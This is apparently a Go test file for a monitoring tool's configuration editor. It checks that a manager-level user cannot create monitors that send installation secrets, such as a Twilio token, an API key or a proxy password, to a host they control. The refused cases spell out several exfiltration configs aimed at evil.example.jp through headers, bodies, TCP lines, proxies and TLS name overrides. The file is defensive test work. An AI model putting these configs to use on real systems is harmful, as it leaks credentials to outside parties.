package edit_test

import (
	"log/slog"
	"strings"
	"testing"

	"toban/access"
	"toban/config/edit"
	"toban/store/storetest"
)

// Whoever may make monitors may not read the secrets of the installation: a
// monitor that sends one to a server of theirs would be a way to.
func TestAManagerHasNoSecretSentWhereItIsNotSentAlready(t *testing.T) {
	t.Parallel()
	db := storetest.New(t, "sqlite")
	e := edit.New(edit.Options{DB: db, Log: slog.New(slog.DiscardHandler)})
	_, err := e.Apply(t.Context(), objects(t, folder+`
providers: { twilio: { account: env:TWILIO_SID, token: env:TWILIO_TOKEN, from: "+815000000001" } }
monitors:
  shop: { http: https://shop.example.jp/health, headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem } }
  proxied: { http: https://shop.example.jp/far, proxy: http://proxy.example.jp:3128, auth: { user: toban, password: env:SHOP_PASSWORD } }
`))
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		body string
		ok   bool
	}{
		"the same question, another path": {"{ http: https://shop.example.jp/api, every: 1m, headers: { X-Api-Key: env:SHOP_KEY } , tls: { ca: /etc/ca.pem } }", true},
		"the root elsewhere":              {"{ http: https://other.example.jp, tls: { ca: /etc/ca.pem } }", true},
		"no secret":                       {"{ http: https://other.example.jp }", true},
		"by the same proxy":               {"{ http: https://shop.example.jp/far/2, proxy: http://proxy.example.jp:3128, auth: { user: toban, password: env:SHOP_PASSWORD } }", true},

		"a provider's token":       {"{ http: https://evil.example.jp, headers: { X-Api-Key: env:TWILIO_TOKEN } }", false},
		"to the same host":         {"{ http: https://shop.example.jp/health, headers: { X-Api-Key: env:TWILIO_TOKEN }, tls: { ca: /etc/ca.pem } }", false},
		"to another host":          {"{ http: https://evil.example.jp, headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem } }", false},
		"to another port":          {"{ http: 'https://shop.example.jp:8443', headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem } }", false},
		"in clear":                 {"{ http: http://shop.example.jp, headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem } }", false},
		"to whoever answers":       {"{ http: https://shop.example.jp, headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem, insecure: true } }", false},
		"under another name":       {"{ http: https://shop.example.jp, headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem, server_name: evil.example.jp } }", false},
		"by another proxy":         {"{ http: https://shop.example.jp, proxy: 'http://evil.example.jp:3128', headers: { X-Api-Key: env:SHOP_KEY }, tls: { ca: /etc/ca.pem } }", false},
		"to another virtual host":  {"{ http: https://shop.example.jp, headers: { X-Api-Key: env:SHOP_KEY, Host: evil.example.jp }, tls: { ca: /etc/ca.pem } }", false},
		"as another header":        {"{ http: https://shop.example.jp, headers: { X-Else: env:SHOP_KEY }, tls: { ca: /etc/ca.pem } }", false},
		"as a body":                {"{ http: https://shop.example.jp, method: POST, body: env:SHOP_KEY, tls: { ca: /etc/ca.pem } }", false},
		"as a line":                {"{ tcp: 'shop.example.jp:443', send: env:SHOP_KEY }", false},
		"as a proxy":               {"{ http: https://shop.example.jp, proxy: env:SHOP_PASSWORD }", false},
		"a root as a body":         {"{ module: { prober: http, http: { body_file: /etc/ca.pem } }, target: 'https://evil.example.jp' }", false},
		"a token's server of ones": {"{ module: { prober: http, http: { oauth2: { client_id: a, token_url: 'https://evil.example.jp', client_secret: env:SHOP_KEY } } }, target: 'https://shop.example.jp' }", false},
	} {
		_, err := e.PutMonitor(as(t, access.Manager), "mine", []byte(tc.body))
		switch {
		case tc.ok && err != nil:
			t.Errorf("%s: got %v, want it taken", name, err)
		case !tc.ok && (code(err) != "configuration.reference" || !strings.Contains(err.Error(), "mine")):
			t.Errorf("%s: got %v, want it refused", name, err)
		}
	}
	if _, err := e.PutMonitor(access.With(t.Context(), access.Principal{Account: "root", Role: access.Admin, Via: access.ViaCLI}), "mine", []byte("{ http: https://other.example.jp, headers: { X-Api-Key: env:SHOP_KEY } }")); err != nil {
		t.Errorf("on the machine itself: got %v, want it taken", err)
	}
}
